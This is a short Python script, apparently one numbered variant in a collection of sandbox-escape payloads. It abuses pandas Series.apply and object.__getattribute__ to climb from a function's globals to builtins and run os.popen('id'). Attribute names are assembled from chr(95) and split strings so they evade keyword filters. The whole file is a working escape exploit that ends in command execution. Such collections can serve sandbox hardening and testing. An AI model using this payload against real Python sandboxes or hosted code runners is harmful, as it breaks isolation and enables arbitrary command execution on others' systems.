# source: pandas 1.5 Series.apply string dispatch (getattr(obj, name)(*args)); object.__getattribute__ pyjail gadget; variant of 311
# family: Series.apply called with self = an Enum class (has len) -> object.__getattribute__(any, name); spelled via type(series) / keywords / positional convert_dtype / a list
# goal: script function __globals__ -> builtins -> __import__('os').popen('id')
import enum
import json
import pandas as pd


class E(enum.Enum):
    A = 1


def f():
    return 0


u = chr(95) * 2
ga = u + "getattribute" + u
fs = [pd.Series.apply]
g = fs[0](E, ga, args=(f, u + "globals" + u))
b = g[u + "builtins" + u]
if not isinstance(b, dict):
    b = pd.Series.apply(E, ga, args=(b, u + "dict" + u))
o = b[u + "imp" + "ort" + u]("o" + "s")
cmd = pd.Series.apply(E, ga, args=(o, "po" + "pen"))("id").read()
print(json.dumps({"id": cmd}))
